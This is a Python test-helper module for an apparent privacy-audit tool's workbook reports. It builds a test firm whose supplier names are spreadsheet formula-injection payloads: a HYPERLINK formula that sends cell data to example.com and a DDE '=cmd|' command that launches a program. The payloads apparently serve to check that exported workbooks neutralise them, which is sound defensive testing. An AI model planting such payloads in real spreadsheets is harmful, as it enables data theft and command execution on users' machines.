"""What tests of the workbooks share: a sheet's rows, the first sheet's numbers, suppliers called like formulas."""

import json

from privacy_audit.reports.results_json import findings_json
from support.bench import make_firm, request, write_register

RISKY = ['=HYPERLINK("http://example.com/?x="&A1,"Pay")', "=cmd|'/c calc'!A1", "+44 20 7946 0000", "-2+3"]


def rows(sheet):
    """The rows of a sheet's table as dictionaries; its header is the third row."""
    head = [cell.value for cell in sheet[3]]
    return [dict(zip(head, [cell.value for cell in row], strict=True)) for row in sheet.iter_rows(min_row=4)]


def start_counts(cells):
    """The numbers of the first sheet's block of states, by the words on their left."""
    found = {}
    for row in cells:
        texts = [each for each in row if each not in {None, ""}]
        for name in ("All tasks", "▲ critical or ◆ major", "Minutes of work"):
            if name in texts:
                found[name] = [int(each) for each in texts[texts.index(name) + 1 :]]
    return found


def expected_counts(example):
    """The same numbers from findings.json, where every task is open."""
    tasks = json.loads(findings_json(example))["tasks"]
    serious = sum(each["severity"] in {"critical", "major"} for each in tasks)
    counts = {"All tasks": len(tasks), "▲ critical or ◆ major": serious}
    counts["Minutes of work"] = sum(each["effort"] for each in tasks)
    return {name: [number, 0, 0, number] for name, number in counts.items()}


def risky_firm(folder):
    """A firm whose suppliers are called like formulas."""
    firm = make_firm(folder / "firm")
    suppliers = [
        {"legal_name": text, "service": "post", "country": "US", "role": "processor", "data_categories": "names"}
        | {"contract_ref": "", "safeguard": "NONE", "art28_missing": text}
        for text in RISKY
    ]
    write_register(firm / "registers" / "2026-Q3", "processors", suppliers)
    return request(firm, "2026-Q3")
